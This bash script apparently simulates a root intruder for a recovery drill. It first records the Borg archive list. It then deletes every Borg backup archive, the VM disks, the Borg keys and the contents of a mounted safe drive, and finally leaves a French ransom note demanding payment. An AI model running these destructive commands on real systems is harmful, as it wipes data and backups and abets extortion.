#!/bin/bash
# srv: an intruder who is root deletes the backups with srv's own access, the disks, Borg's key,
# and the safe if it was left plugged in.
set -euo pipefail

note=/var/lib/pcapra/avant-intrusion.json
export HOME=/root LC_ALL=C.UTF-8
export BORG_PASSCOMMAND='cat /root/.borg-pass' BORG_RSH='ssh -o BatchMode=yes'
export BORG_REPO='ssh://borg@sauvegarde/srv/borg/srv'

if [ ! -s "$note" ]; then
    mkdir -p /var/lib/pcapra
    borg list --lock-wait 120 --json > "$note.tmp"
    mv "$note.tmp" "$note"
fi
if [ -e /root/.config/borg ]; then
    borg delete --lock-wait 120 --glob-archives '*'
    borg compact --lock-wait 120
fi
rm -rf /srv/vm /root/.config/borg /root/.cache/borg
if mountpoint -q /media/coffre; then
    find /media/coffre -mindepth 1 -delete
fi
echo 'Vos machines et vos sauvegardes ont disparu. Payez.' > /root/RANCON.txt
